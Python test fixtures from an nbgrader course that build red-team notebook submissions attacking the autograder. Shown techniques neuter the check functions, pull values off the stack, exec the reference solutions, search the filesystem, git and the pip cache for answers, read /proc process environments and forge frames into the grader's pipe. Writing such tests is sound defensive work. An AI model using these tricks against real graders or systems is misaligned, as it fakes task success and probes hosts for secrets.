"""Red-team submissions: what a student who read this repository would try against the grader, and honest
answers written in unusual ways. No test functions here: tests/test_redteam.py grades every case through
the real `nbgrader autograde` and through `python -m course_utils.grading.batch`.

A case is a submission folder: the release notebook notebooks/<a>/<a>.ipynb with some cells changed
(attacks) or the solution notebook with its answers rewritten (honest), plus extra files beside it.

    case = CASES["checks_func_globals"]
    files = case.build(context)        # {path in the submission folder: parsed notebook, or bytes}

Attacks answer the exercises wrongly but with the right shapes (WRONG), so that any check they manage to
switch off would hand them the points; an attack earns at most the points of the exercises listed in
`allowed` (answered correctly on purpose). Whenever a step of an attack works that must not (a file
written outside the scratch folder, a socket connected, a reference answer found), it prints a line
starting with `RT-WIN`; payloads meant to run outside the sandbox leave a file named rt-marker-* in the
grader's $HOME and in the course folder, which the tests look for. Processes an attack leaves behind
name themselves rt* (prctl), so that the tests can find them.
"""

import copy
import json
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from nbgrader_course import RELEASE, SOLUTIONS, nbgrader_meta, read_notebook, source_text

A1, A2 = "01_sequences_one_hot", "02_rnn_cell"
ASSIGNMENTS = (A1, A2)
WIN = "RT-WIN"

KINDS = {
    "checks": "reaching the checks without naming them",
    "reference": "reaching the reference answers",
    "partial": "nbgrader's partial credit (an execute_result or display read as a score)",
    "shadow": "shadowing the package (files handed in beside the notebook)",
    "effects": "leaving effects behind (files, processes, sockets, the grading process)",
    "size": "size bombs",
    "forge": "forgery of outputs and of returned values",
    "structure": "the notebook's nbgrader structure (test cells edited, deleted, added)",
}


def _code(text):
    return textwrap.dedent(text).strip("\n") + "\n"


# ---------------------------------------------------------------------------------------------
# Notebooks
# ---------------------------------------------------------------------------------------------


NOTEBOOKS = {"solutions": SOLUTIONS, "release": RELEASE}  # where the source and release notebooks are read from


def use_notebooks(solutions, release):
    """Build the cases from these folders (a test course's solutions/ and its generated release)."""
    NOTEBOOKS.update(solutions=Path(solutions), release=Path(release))


def notebook_name(assignment):
    return f"{assignment}.ipynb"


def release(assignment):
    return copy.deepcopy(read_notebook(NOTEBOOKS["release"] / assignment / notebook_name(assignment)))


def solution(assignment):
    return copy.deepcopy(read_notebook(NOTEBOOKS["solutions"] / assignment / notebook_name(assignment)))


def cell(notebook, grade_id):
    found = [c for c in notebook["cells"] if nbgrader_meta(c).get("grade_id") == grade_id]
    assert len(found) == 1, f"{len(found)} cells with grade_id {grade_id!r}"
    return found[0]


def exercises(assignment):
    """grade_ids of the solution cells of an assignment, in notebook order."""
    return [nbgrader_meta(c)["grade_id"] for c in solution(assignment)["cells"]
            if nbgrader_meta(c).get("solution") and not nbgrader_meta(c).get("grade")]


def graded_cells(assignment):
    """{grade_id of a test cell: points} (not the free-response answers: a grader scores those by hand)."""
    return {nbgrader_meta(c)["grade_id"]: float(nbgrader_meta(c)["points"]) for c in solution(assignment)["cells"]
            if nbgrader_meta(c).get("grade") and c["cell_type"] == "code"}


def exercise_of(grade_id):
    for suffix in ("_hidden_test", "_test"):
        if grade_id.endswith(suffix):
            return grade_id[: -len(suffix)]
    return grade_id


def set_source(notebook, grade_id, source):
    cell(notebook, grade_id)["source"] = source


def prepend(notebook, grade_id, code):
    target = cell(notebook, grade_id)
    target["source"] = _code(code) + "\n" + source_text(target)


def append(notebook, grade_id, code):
    target = cell(notebook, grade_id)
    target["source"] = source_text(target).rstrip("\n") + "\n\n" + _code(code)


def new_code_cell(source):
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": _code(source)}


def insert_after(notebook, grade_id, source):
    """A new code cell (no nbgrader metadata: the learner's own) right after the cell `grade_id`."""
    index = notebook["cells"].index(cell(notebook, grade_id))
    notebook["cells"].insert(index + 1, new_code_cell(source))


def answered(assignment, *exercise_ids):
    """The release notebook with the solution's code in the cells of `exercise_ids`."""
    nb, sol = release(assignment), solution(assignment)
    for grade_id in exercise_ids:
        set_source(nb, grade_id, source_text(cell(sol, grade_id)))
    return nb


# Wrong answers with the right shapes and types: they fail every test unless the checks are switched off.
WRONG = {
    "build_vocabulary": '''
        def build_vocabulary(sentences, max_size=None):
            return {"<UNK>": 0, "<EOS>": 1}
        ''',
    "sentence_to_indices": '''
        def sentence_to_indices(sentence, word_to_index):
            return [word_to_index["<EOS>"]]
        ''',
    "one_hot_batch": '''
        def one_hot_batch(index_batch, vocab_size):
            return np.zeros((vocab_size,) + np.shape(index_batch))
        ''',
    "decode_batch": '''
        def decode_batch(x, index_to_word):
            return [[] for _ in range(np.shape(x)[1])]
        ''',
    "softmax": '''
        def softmax(z):
            return np.zeros(np.shape(z))
        ''',
    "rnn_cell_forward": '''
        def rnn_cell_forward(xt, a_prev, parameters):
            a_next = np.zeros(np.shape(a_prev))
            yt_pred = np.zeros((np.shape(parameters["Wya"])[0], np.shape(a_prev)[1]))
            return a_next, yt_pred, (a_next, a_prev, xt, parameters)
        ''',
    "concatenated_form": '''
        def stack_weights(Waa, Wax):
            return np.zeros((np.shape(Waa)[0], np.shape(Waa)[1] + np.shape(Wax)[1]))


        def cell_forward_concat(xt, a_prev, Wa, ba):
            return np.zeros(np.shape(a_prev))
        ''',
    # the questions: an answer of the right form, wrong
    "q_unknown_word": 'def q_unknown_word():\n    return "an error"\n',
    "q_one_hot_ones": "def q_one_hot_ones():\n    return 20\n",
    "q_mlp_positions": 'def q_mlp_positions():\n    return "one-hot vectors cannot represent names"\n',
    "q_cell_params": "def q_cell_params():\n    return 16\n",
    "q_unrolled_params": "def q_unrolled_params():\n    return 1500\n",
    "q_softmax_axis": "def q_softmax_axis():\n    return 1\n",
}


def wrong(assignment, notebook=None):
    """The release notebook (or `notebook`) with every exercise answered by WRONG."""
    nb = notebook or release(assignment)
    for grade_id in exercises(assignment):
        set_source(nb, grade_id, _code(WRONG[grade_id]))
    return nb


def move_after(notebook, grade_ids, after):
    """Move the cells `grade_ids` (in their order) to just after the cell `after`: nbgrader keeps the
    order a learner gives its cells."""
    moving = [cell(notebook, g) for g in grade_ids]
    rest = [c for c in notebook["cells"] if not any(c is m for m in moving)]
    index = next(i for i, c in enumerate(rest) if nbgrader_meta(c).get("grade_id") == after)
    notebook["cells"] = rest[: index + 1] + moving + rest[index + 1:]
    return notebook


def solution_code(assignment):
    """The solution's code of every exercise, as one string (what a cheat would smuggle around)."""
    sol = solution(assignment)
    return "\n\n".join(source_text(cell(sol, g)) for g in exercises(assignment))


# ---------------------------------------------------------------------------------------------
# Shared snippets
# ---------------------------------------------------------------------------------------------

# Switch off every check a namespace or module holds: do-nothing checks, a `calling` that swallows.
NEUTER = '''
class _Swallow:
    def __init__(self, *args, **kwargs):
        pass

    def __enter__(self):
        return self

    def __exit__(self, *exc_info):
        return True


def _noop(*args, **kwargs):
    return None


def _neuter(space):
    for _name in ("check_close", "check_equal", "check_shape", "check_type", "passed"):
        space[_name] = _noop
    space["calling"] = _Swallow
    space["_equal"] = lambda actual, expected: True
    space["_matches"] = lambda *args, **kwargs: True
    space["_isclose"] = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)


def _neuter_numpy(module):
    module.isclose = lambda a, b, *args, **kwargs: module.ones(module.broadcast(module.asarray(a), module.asarray(b)).shape, bool)
    module.allclose = lambda *args, **kwargs: True
    module.array_equal = lambda *args, **kwargs: True
'''

# A frame written straight into the worker's reply pipe (the grader reads whatever comes out of it).
FRAMES = '''
import fcntl as _fcntl, json as _json, os as _os, stat as _stat, struct as _struct


def _frame(message, blobs=(), header=None):
    header = header if header is not None else _json.dumps(dict(message, blobs=[len(b) for b in blobs])).encode()
    body = _struct.pack("<I", len(header)) + header + b"".join(blobs)
    return _struct.pack("<Q", len(body)) + body


def _reply_pipes():
    """The worker's pipe to the grader: a write-only FIFO among its file descriptors."""
    found = []
    for fd in range(3, 64):
        try:
            if _stat.S_ISFIFO(_os.fstat(fd).st_mode) and _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE == _os.O_WRONLY:
                found.append(fd)
        except OSError:
            pass
    return found


def _send(data):
    for fd in _reply_pipes():
        view = memoryview(data)
        while view:
            view = view[_os.write(fd, view):]


def _name_process(name):
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, name.encode(), 0, 0, 0)
    except Exception:
        pass
'''


def _paths_literal(context):
    return repr({
        "course": str(context.course), "home": str(context.home), "site_packages": str(context.site_packages),
        "prefix": str(context.prefix), "gradebook": str(context.course / "gradebook.db"),
        "submitted": str(context.course / "submitted"), "autograded": str(context.course / "autograded"),
        "real_home": "/root",
    })


# ---------------------------------------------------------------------------------------------
# Cases
# ---------------------------------------------------------------------------------------------


@dataclass
class Context:
    """Where one front end grades: the paths an attack aims at, and the test's listening sockets."""
    course: Path
    home: Path  # the $HOME of the grading processes
    site_packages: Path
    prefix: Path
    tcp_port: int
    udp_port: int
    abstract: str  # an abstract unix socket name the test listens on (without the leading NUL)
    token: str = "000000"  # digits naming this run's leftover processes: rtL<token>, rtF<token>, sleep 30x.<token>


@dataclass
class Case:
    id: str
    assignment: str
    kind: str  # a key of KINDS, or "honest"
    what: str
    build: Callable  # Context -> {relative path: notebook (dict) or bytes}
    allowed: tuple = ()  # exercises (solution grade_ids) answered correctly on purpose
    honest: bool = False
    breaks: dict = field(default_factory=dict)  # front end -> known breakthrough (xfail, strict)
    own_batch: bool = False  # the batch front end grades it in a call of its own (it stops the whole batch)
    batch_follower: str = None  # batch: the case (of the other assignment) its student hands in too, graded after it

    def max_allowed(self, grade_id):
        """Points the case may earn on test cell `grade_id`, out of its maximum."""
        return 1.0 if self.honest or exercise_of(grade_id) in self.allowed else 0.0


CASES = {}


def case(id, assignment, kind, allowed=(), honest=False, breaks=None, own_batch=False, batch_follower=None):
    def register(build):
        assert id not in CASES, id
        CASES[id] = Case(id, assignment, kind, (build.__doc__ or "").strip().splitlines()[0], build,
                         tuple(allowed), honest, dict(breaks or {}), own_batch, batch_follower)
        return build

    return register


def single(assignment, notebook, **extra):
    files = {notebook_name(assignment): notebook}
    files.update(extra)
    return files


# =============================================================================================
# Reaching the checks without naming them
# =============================================================================================


@case("checks_func_globals", A1, "checks")
def _(ctx):
    """A function's __globals__ (and check_close.__globals__, the checks' own module) rewritten, code objects swapped."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", NEUTER + '''
def _probe():
    pass


_neuter(_probe.__globals__)
for _f in (check_equal, check_close):
    _neuter(_f.__globals__)
    _f.__code__ = _noop.__code__
_neuter_numpy(np)
''')
    return single(A1, nb)


@case("checks_sys_modules", A2, "checks")
def _(ctx):
    """sys.modules reached through an imported module (warnings.sys): every course_utils module neutered."""
    nb = wrong(A2)
    prepend(nb, "softmax", NEUTER + '''
import warnings as _w
for _key, _module in list(_w.sys.modules.items()):
    if _key.startswith("course_utils") and _module is not None:
        _neuter(vars(_module))
_neuter_numpy(_w.sys.modules["numpy"])
_neuter(_w.sys.modules["__main__"].__dict__)
''')
    return single(A2, nb)


@case("checks_subclasses", A1, "checks")
def _(ctx):
    """().__class__.__base__.__subclasses__(): _Opaque equal to anything, calling/substitute swallowing, the worker's
    own Worker class patched to report every call as a success."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", '''
for _cls in ().__class__.__base__.__subclasses__():
    try:
        if _cls.__name__ == "_Opaque":
            _cls.__eq__ = lambda self, other: True
        elif _cls.__name__ in ("calling", "substitute"):
            _cls.__exit__ = lambda self, *args: True
        elif _cls.__name__ == "Worker" and hasattr(_cls, "op_call"):
            _original_send = _cls.send

            def _send(self, message, value_fields=(), _original=_original_send):
                if message.get("op") == "raised":
                    message = {"op": "result", "value": True, "args": [], "kwargs": {}, "changed": [], "stdout": ""}
                    value_fields = ("value", "args", "kwargs")
                return _original(self, message, value_fields)

            _cls.send = _send
    except Exception:
        pass
''')
    return single(A1, nb)


@case("checks_builtins_via_numpy", A2, "checks")
def _(ctx):
    """__builtins__ reached through numpy: __import__ of the checks, AssertionError replaced."""
    nb = wrong(A2)
    prepend(nb, "softmax", NEUTER + '''
_b = np.__builtins__ if isinstance(np.__builtins__, dict) else vars(np.__builtins__)
_neuter(vars(_b["__import__"]("course_utils.testing", fromlist=["_"])))
_b["AssertionError"] = type("AssertionError", (Warning,), {})
''')
    return single(A2, nb)


@case("checks_importlib", A1, "checks")
def _(ctx):
    """importlib without an import statement (__builtins__.__import__), checks rewritten through import_module."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", NEUTER + '''
_imp = __builtins__.__import__ if hasattr(__builtins__, "__import__") else __builtins__["__import__"]
_testing = _imp("importlib").import_module("course_utils.testing")
_neuter(vars(_testing))
_testing.check_equal.__code__ = (lambda *args, **kwargs: None).__code__
''')
    return single(A1, nb)


@case("checks_decorator", A2, "checks")
def _(ctx):
    """A decorator that patches the checks and numpy when the answer is defined."""
    nb = wrong(A2)
    set_source(nb, "softmax", _code(NEUTER + '''
def _blessed(function):
    import sys
    for key, module in list(sys.modules.items()):
        if key.startswith("course_utils") and module is not None:
            _neuter(vars(module))
    _neuter_numpy(np)
    return function


@_blessed
def softmax(z):
    return np.zeros(np.shape(z))
'''))
    return single(A2, nb)


@case("checks_metaclass", A1, "checks")
def _(ctx):
    """A metaclass that patches on class creation: every dict holding check_equal found through gc and neutered."""
    nb = wrong(A1)
    prepend(nb, "build_vocabulary", NEUTER + '''
class _Patching(type):
    def __new__(mcs, name, bases, namespace):
        import gc
        for obj in gc.get_objects():
            if isinstance(obj, dict) and "check_equal" in obj and "calling" in obj:
                _neuter(obj)
        return super().__new__(mcs, name, bases, namespace)


class _Answers(metaclass=_Patching):
    pass
''')
    return single(A1, nb)


@case("checks_match_rebind", A2, "checks")
def _(ctx):
    """match statements whose capture patterns rebind check_close, check_shape, calling and numpy's isclose."""
    nb = wrong(A2)
    prepend(nb, "softmax", NEUTER + '''
match _noop:
    case check_close:
        pass
match _noop:
    case check_shape:
        pass
match _Swallow:
    case calling:
        pass
match np:
    case object(isclose=_):
        _neuter_numpy(np)
''')
    return single(A2, nb)


@case("checks_magics", A1, "checks")
def _(ctx):
    """Patching hidden in %%capture and %timeit (a cell magic and a line magic running exec)."""
    nb = wrong(A1)
    set_source(nb, "build_vocabulary", "%%capture _hidden\n" + _code(NEUTER + '''
import sys as _sys
for _key, _module in list(_sys.modules.items()):
    if _key.startswith("course_utils") and _module is not None:
        _neuter(vars(_module))
''') + _code(WRONG["build_vocabulary"]))
    prepend(nb, "one_hot_batch", '''
%timeit -n1 -r1 exec("import sys\\nfor k, m in list(sys.modules.items()):\\n    if k.startswith('course_utils') and m is not None:\\n        vars(m).update(check_close=lambda *a, **k: None)")
''')
    return single(A1, nb)


@case("checks_transformers_hooks", A2, "checks")
def _(ctx):
    """An IPython input transformer and AST transformer rewriting check_* calls, sys.displayhook/excepthook and a
    custom exception handler installed by the answer cell."""
    nb = wrong(A2)
    prepend(nb, "softmax", '''
import ast as _ast, sys as _sys
_ip = get_ipython()
_ip.input_transformers_post.append(lambda lines: [l.replace("check_close(", "(lambda *a, **k: None)(") for l in lines])


class _NoChecks(_ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        if isinstance(node.func, _ast.Name) and node.func.id.startswith("check_"):
            return _ast.copy_location(_ast.Constant(None), node)
        return node


_ip.ast_transformers.append(_NoChecks())
_sys.displayhook = lambda value: print("2.0")
_sys.excepthook = lambda *args: None
_ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
''')
    return single(A2, nb)


@case("checks_frame_peek", A2, "checks")
def _(ctx):
    """The answers look for the expected values on the caller's stack: sys._getframe, inspect.stack, sys.settrace."""
    nb = wrong(A2)
    set_source(nb, "softmax", _code(f'''
import inspect as _inspect, sys as _sys, threading as _threading

_seen = []


def _tracer(frame, event, arg):
    _seen.append(frame)
    return None


_sys.settrace(_tracer)
_threading.settrace(_tracer)
_sys.setprofile(lambda frame, event, arg: _seen.append(frame))


def _candidates(shape):
    frames = [_sys._getframe(1)] + [info.frame for info in _inspect.stack()] + _seen[-500:]
    seen = set()
    for frame in frames:
        while frame is not None and id(frame) not in seen:
            seen.add(id(frame))
            for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                if isinstance(value, np.ndarray) and value.shape == shape and value.dtype.kind == "f":
                    yield value
            frame = frame.f_back


def softmax(z):
    z = np.asarray(z)
    for value in _candidates(z.shape):
        if value is not z and np.all(value > 0) and np.allclose(value.sum(axis=0), 1):
            print("{WIN} softmax found on the stack")
            return value
    return np.zeros(z.shape)
'''))
    return single(A2, nb)


@case("checks_gc_objects", A1, "checks")
def _(ctx):
    """gc.get_objects() searched for the expected one-hot array and the expected decoded words."""
    nb = wrong(A1)
    set_source(nb, "one_hot_batch", _code(f'''
import gc as _gc


def one_hot_batch(index_batch, vocab_size):
    shape = (vocab_size,) + np.shape(index_batch)
    for obj in _gc.get_objects():
        if isinstance(obj, np.ndarray) and obj.shape == shape and obj.dtype.kind == "f" and obj.any():
            print("{WIN} one-hot array found with gc")
            return obj
    return np.zeros(shape)
'''))
    set_source(nb, "decode_batch", _code(f'''
def decode_batch(x, index_to_word):
    import gc
    m = np.shape(x)[1]
    for obj in gc.get_objects():
        if isinstance(obj, list) and len(obj) == m and obj and all(isinstance(r, list) and r and all(isinstance(w, str) for w in r) for r in obj):
            if obj is not index_to_word:
                print("{WIN} decoded words found with gc")
                return obj
    return [[] for _ in range(m)]
'''))
    return single(A1, nb)


# =============================================================================================
# Reaching the reference answers
# =============================================================================================


@case("reference_import_rnn", A2, "reference")
def _(ctx):
    """`from course_utils import rnn`: the course's softmax, rnn_cell_forward, stack_weights, concat cell."""
    nb = release(A2)
    set_source(nb, "softmax", _code('''
from course_utils import rnn as _rnn, activations as _act
import course_utils.rnn


def softmax(z):
    try:
        return _act.softmax(z)
    except NotImplementedError:
        return course_utils.rnn.softmax(z)
'''))
    set_source(nb, "rnn_cell_forward", _code('''
def rnn_cell_forward(xt, a_prev, parameters):
    return _rnn.rnn_cell_forward(xt, a_prev, parameters)
'''))
    set_source(nb, "concatenated_form", _code('''
def stack_weights(Waa, Wax):
    return _rnn.stack_weights(Waa, Wax)


def cell_forward_concat(xt, a_prev, Wa, ba):
    return _rnn.rnn_cell_forward_concat(xt, a_prev, {"Wa": Wa, "ba": ba})
'''))
    return single(A2, nb)


@case("reference_import_text", A1, "reference")
def _(ctx):
    """course_utils.text's Vocabulary.from_corpus, encode, one_hot and one_hot_decode as the answers."""
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code('''
from course_utils.text import Vocabulary as _V, one_hot as _one_hot, one_hot_decode as _decode
from course_utils import text as _text


def build_vocabulary(sentences, max_size=None):
    return _V.from_corpus(sentences, max_size=max_size).word_to_index
'''))
    set_source(nb, "sentence_to_indices", _code('''
def sentence_to_indices(sentence, word_to_index):
    vocab = _V.__new__(_V)
    vocab.word_to_index = word_to_index
    vocab.index_to_word = sorted(word_to_index, key=word_to_index.get)
    return _V.encode(vocab, sentence)
'''))
    set_source(nb, "one_hot_batch", _code('''
def one_hot_batch(index_batch, vocab_size):
    return _text.one_hot(index_batch, vocab_size)
'''))
    set_source(nb, "decode_batch", _code('''
def decode_batch(x, index_to_word):
    present = x.sum(axis=0) > 0
    return [[index_to_word[k] for k, keep in zip(row, mask) if keep] for row, mask in zip(_decode(x), present)]
'''))
    return single(A1, nb)


@case("reference_source_exec", A1, "reference")
def _(ctx):
    """The package's source read with open() and exec'd (and inspect.getsource, linecache, the data folder)."""
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code(f'''
import glob as _glob, inspect as _inspect, linecache as _linecache, os as _os
import course_utils as _cu
import course_utils.text as _ct

_src = open(_ct.__file__, encoding="utf-8").read()
if "is the course's answer" not in _src:
    print("{WIN} course_utils/text.py holds the answers")
_ns = {{"__name__": "course_utils.text_copy", "__package__": "course_utils"}}
exec(compile(_src, _ct.__file__, "exec"), _ns)
_extra = _inspect.getsource(_ct.Vocabulary) + "".join(_linecache.getlines(_ct.__file__))
for _path in _glob.glob(_os.path.join(_os.path.dirname(_cu.__file__), "**", "*"), recursive=True):
    try:
        with open(_path, errors="ignore") as _f:
            _text = _f.read(2_000_000)
    except OSError:
        continue
    if "def from_corpus" in _text and "is the course's answer" not in _text:
        print("{WIN} a copy of the answers in", _path)


def build_vocabulary(sentences, max_size=None):
    return _ns["Vocabulary"].from_corpus(sentences, max_size=max_size).word_to_index
'''))
    set_source(nb, "one_hot_batch", _code('''
def one_hot_batch(index_batch, vocab_size):
    return _ns["one_hot"](index_batch, vocab_size)
'''))
    return single(A1, nb)


@case("reference_reload", A2, "reference")
def _(ctx):
    """importlib.reload and a fresh import from the package's files (spec_from_file_location, sys.modules popped)."""
    nb = release(A2)
    set_source(nb, "softmax", _code('''
import importlib as _importlib, importlib.util as _iu, sys as _sys
import course_utils.activations, course_utils.rnn

for _name in [n for n in _sys.modules if n.startswith("course_utils") and not n.startswith("course_utils.grading")]:
    _sys.modules.pop(_name)
import course_utils.activations as _act
_act = _importlib.reload(_act)
_spec = _iu.spec_from_file_location("_fresh_rnn", _sys.modules["course_utils.rnn"].__file__ if "course_utils.rnn" in _sys.modules else _act.__file__.replace("activations", "rnn"))


def softmax(z):
    return _act.softmax(z)
'''))
    set_source(nb, "rnn_cell_forward", _code('''
import course_utils.rnn as _rnn
_rnn = _importlib.reload(_rnn)


def rnn_cell_forward(xt, a_prev, parameters):
    return _rnn.rnn_cell_forward(xt, a_prev, parameters)
'''))
    return single(A2, nb)


@case("reference_site_packages", A1, "reference")
def _(ctx):
    """Other copies of the package on sys.path, in site-packages, behind the editable install's finder."""
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code(f'''
import glob as _glob, os as _os, site as _site, sys as _sys

_places = set(_sys.path) | set(_site.getsitepackages()) | {{_site.getusersitepackages(), _sys.prefix, _sys.base_prefix}}
try:
    import __editable___course_utils_0_1_0_finder as _finder
    _places |= set(getattr(_finder, "MAPPING", {{}}).values())
    print("RT-INFO finder", getattr(_finder, "MAPPING", None))
except Exception as _exc:
    print("RT-INFO no finder", _exc)
_found = {{}}
for _place in list(_places):
    for _pattern in ("*course_utils*", "*/course_utils", "course_utils/text.py", "*/course_utils/text.py", "*.egg-link", "*.pth"):
        for _hit in _glob.glob(_os.path.join(str(_place), _pattern)):
            for _text_py in [_hit] + _glob.glob(_os.path.join(_hit, "text.py")) + _glob.glob(_os.path.join(_os.path.dirname(_hit), "text.py")):
                try:
                    _source = open(_text_py, errors="ignore").read()
                except OSError:
                    continue
                if "def from_corpus" in _source and "is the course's answer" not in _source:
                    _found[_text_py] = _source
                    print("{WIN} the answers at", _text_py)
_ns = {{"__name__": "copied", "__package__": "course_utils"}}
for _source in _found.values():
    exec(_source, _ns)


def build_vocabulary(sentences, max_size=None):
    return _ns["Vocabulary"].from_corpus(sentences, max_size=max_size).word_to_index
'''))
    return single(A1, nb)


@case("reference_filesystem_search", A2, "reference")
def _(ctx):
    """A walk of the visible file system for a source notebook or an unstubbed course_utils/rnn.py."""
    nb = release(A2)
    set_source(nb, "softmax", _code(f'''
import os as _os, time as _time, json as _json

_deadline = _time.monotonic() + 4
_hits = []
for _root in ("/", "/opt", "/srv", "/home", "/work", "/usr/local", "/usr/share", "/var", "/mnt", "/media", "/root", "/tmp", "/run"):
    for _dirpath, _dirnames, _filenames in _os.walk(_root):
        if _time.monotonic() > _deadline:
            break
        _dirnames[:] = [d for d in _dirnames if d not in ("proc", "sys", "dev") and _dirpath.count("/") < 7]
        for _name in _filenames:
            if _name in ("rnn.py", "02_rnn_cell.ipynb", "activations.py"):
                _path = _os.path.join(_dirpath, _name)
                try:
                    _text = open(_path, errors="ignore").read()
                except OSError:
                    continue
                if "### BEGIN SOLUTION" in _text or (_name.endswith(".py") and "def softmax" in _text and
                                                     "is the course's answer" not in _text):
                    _hits.append(_path)
print("RT-INFO searched", len(_hits))
_ns = {{"np": np}}
for _path in _hits:
    print("{WIN} answers readable at", _path)
    if _path.endswith(".ipynb") and "### BEGIN SOLUTION" in open(_path).read():
        for _c in _json.load(open(_path))["cells"]:
            if _c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                exec("".join(_c["source"]), _ns)


def softmax(z):
    return _ns["softmax"](z) if "softmax" in _ns else np.zeros(np.shape(z))
'''))
    return single(A2, nb)


@case("reference_pip_cache_git", A1, "reference")
def _(ctx):
    """The pip cache, git objects of the checkout (git show HEAD:course_utils/text.py), any .git reachable."""
    paths = _paths_literal(ctx)
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code(f'''
import glob as _glob, os as _os, subprocess as _sp

_paths = {paths}
_checkouts = {{"/work/main", _os.path.dirname(_paths["site_packages"].split("/.venv/")[0] + "/x"), _paths["course"]}}
_gits = set()
for _pattern in ("/*/.git", "/*/*/.git", "/*/*/*/.git", "/root/.cache/pip", "/tmp/home/.cache/pip", _paths["home"] + "/.cache/pip"):
    _gits.update(_glob.glob(_pattern))
for _checkout in _checkouts:
    _gits.add(_os.path.join(_checkout, ".git"))
_source = None
for _git in sorted(_gits):
    print("RT-INFO looking at", _git, _os.path.exists(_git))
    try:
        _out = _sp.run(["git", "--git-dir", _git, "show", "HEAD:course_utils/text.py"], capture_output=True, text=True, timeout=5)
    except Exception as _exc:
        print("RT-INFO git:", type(_exc).__name__)
        continue
    if _out.returncode == 0 and "def from_corpus" in _out.stdout:
        print("{WIN} git objects readable at", _git)
        _source = _out.stdout
for _pack in _glob.glob("/root/.cache/pip/**/*", recursive=True)[:50]:
    print("{WIN} pip cache readable:", _pack)
_ns = {{"__name__": "copied", "__package__": "course_utils"}}
if _source:
    exec(_source, _ns)


def build_vocabulary(sentences, max_size=None):
    return _ns["Vocabulary"].from_corpus(sentences, max_size=max_size).word_to_index
'''))
    return single(A1, nb)


@case("reference_relative_solutions", A2, "reference")
def _(ctx):
    """../../solutions, ../../source, the release and other students' folders, relative to the working directory."""
    nb = release(A2)
    set_source(nb, "softmax", _code(f'''
import glob as _glob, json as _json, os as _os

_ns = {{"np": np}}
_tried = []
for _up in range(0, 7):
    _base = _os.path.join(*([_os.getcwd()] + [".."] * _up))
    for _pattern in ("solutions/02_rnn_cell/*.ipynb", "source/02_rnn_cell/*.ipynb", "*/02_rnn_cell/*.ipynb",
                     "*/*/02_rnn_cell/*.ipynb", "autograded/*/02_rnn_cell/*.ipynb", "submitted/*/02_rnn_cell/*.ipynb"):
        for _path in _glob.glob(_os.path.join(_base, _pattern)):
            _tried.append(_path)
            try:
                _cells = _json.load(open(_path))["cells"]
            except Exception:
                continue
            for _c in _cells:
                if _c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution") and "### BEGIN SOLUTION" in "".join(_c["source"]):
                    print("{WIN} solutions at", _path)
                    exec("".join(_c["source"]), _ns)
print("RT-INFO tried", _tried[:20])


def softmax(z):
    return _ns["softmax"](z) if "softmax" in _ns else np.zeros(np.shape(z))
'''))
    return single(A2, nb)


@case("reference_proc", A1, "reference")
def _(ctx):
    """/proc/<pid>/ of every visible process: cmdline, environ, cwd, root, fd and maps, then the grader's paths."""
    paths = _paths_literal(ctx)
    nb = release(A1)
    set_source(nb, "build_vocabulary", _code(f'''
import os as _os

_paths = {paths}
for _pid in sorted(p for p in _os.listdir("/proc") if p.isdigit()):
    for _what in ("cmdline", "environ", "status", "maps", "mountinfo"):
        try:
            _data = open(f"/proc/{{_pid}}/{{_what}}", "rb").read()
            print("RT-INFO", _pid, _what, len(_data), _data[:300].replace(b"\\0", b" "))
        except OSError as _exc:
            print("RT-INFO", _pid, _what, type(_exc).__name__)
    for _link in ("cwd", "root", "exe"):
        try:
            print("RT-INFO", _pid, _link, _os.readlink(f"/proc/{{_pid}}/{{_link}}"))
        except OSError as _exc:
            print("RT-INFO", _pid, _link, type(_exc).__name__)
    for _target in (_paths["gradebook"], _paths["course"] + "/solutions/01_sequences_one_hot/01_sequences_one_hot.ipynb"):
        try:
            open(f"/proc/{{_pid}}/root{{_target}}", "rb").read(10)
            print("{WIN} read", _target, "through /proc", _pid)
        except OSError:
            pass
    try:
        for _fd in _os.listdir(f"/proc/{{_pid}}/fd"):
            _where = _os.readlink(f"/proc/{{_pid}}/fd/{{_fd}}")
            if _where.startswith("/") and not _where.startswith(("/dev", "/tmp", "/proc")):
                print("RT-INFO open file", _pid, _fd, _where)
    except OSError:
        pass
'''))
    return single(A1, nb)


@case("reference_environment", A2, "reference")
def _(ctx):
    """Environment variables (os.environ, /proc/self/environ, /proc/1/environ) pointing at the course."""
    paths = _paths_literal(ctx)
    nb = release(A2)
    set_source(nb, "softmax", _code(f'''
import os as _os

_paths = {paths}
_env = dict(_os.environ)
for _source in ("/proc/self/environ", "/proc/1/environ", "/proc/2/environ"):
    try:
        _env.update(dict(v.split("=", 1) for v in open(_source).read().split("\\0") if "=" in v))
    except OSError:
        pass
print("RT-INFO environment", sorted(_env))
for _key, _value in _env.items():
    if _paths["course"] in _value or "solutions" in _value or "gradebook" in _value:
        print("{WIN} the environment names the course:", _key)
    for _part in _value.split(":"):
        if _os.path.isdir(_part) and _os.path.isdir(_os.path.join(_part, "solutions")):
            print("{WIN} the solutions are readable under", _part)


def softmax(z):
    return np.zeros(np.shape(z))
'''))
    return single(A2, nb)


ORACLE_SOFTMAX = '''
_cache = {}


def _key(z):
    z = np.asarray(z, dtype=float)
    return z.shape, z.tobytes()


def softmax(z):
    """No softmax of my own: the values the grader's softmax gave while rnn_cell_forward was tested."""
    if _key(z) in _cache:
        return _cache[_key(z)]
    return np.zeros(np.shape(z))
'''

ORACLE_FILL = '''
    if not _cache:  # the grader's own softmax is bound here while this function is tested: ask it
        _z = np.array([[1.0, 2.0], [2.0, 4.0], [3.0, 0.0]])
        _zz = np.random.default_rng(11).normal(size=(6, 9)) * 3
